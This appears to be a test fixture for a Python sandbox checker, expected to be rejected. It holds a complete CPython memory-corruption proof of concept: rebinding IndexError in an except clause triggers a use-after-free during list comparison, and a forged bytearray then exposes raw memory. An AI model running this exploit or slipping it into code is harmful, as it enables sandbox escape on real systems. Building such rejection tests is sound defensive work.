# expect: reject memory
# line: 18
# verified: plain python3 3.11.2 (/usr/bin/python3 -I): prints 'bytearray 0x4000000000000000' (raw memory)
# why: gh-120298, an except clause's class is a read (the census): but `except Boom as IndexError` binds the name, so IndexError(...) in __lt__ may call any object, here an exception whose __call__ empties the list
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
vl = []
class Boom(Exception):
    def __call__(s, *a):
        vl.clear()
        return NotImplemented
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")
    def __eq__(s, o): return False
    def __lt__(s, o):
        return IndexError("index out of range")
class Wc:
    def __eq__(s, o): return False
    def __gt__(s, o):
        keep.append(bytearray(FAKE))
        keep.append(o)
        return False
def raw_memory():
    w = Wc()
    vl.append(V())
    vl < [w]
    keep.append(w)
    return keep[-2]
try:
    raise Boom()
except Boom as IndexError:
    mem = raw_memory()
print(type(mem).__name__, hex(len(mem)))
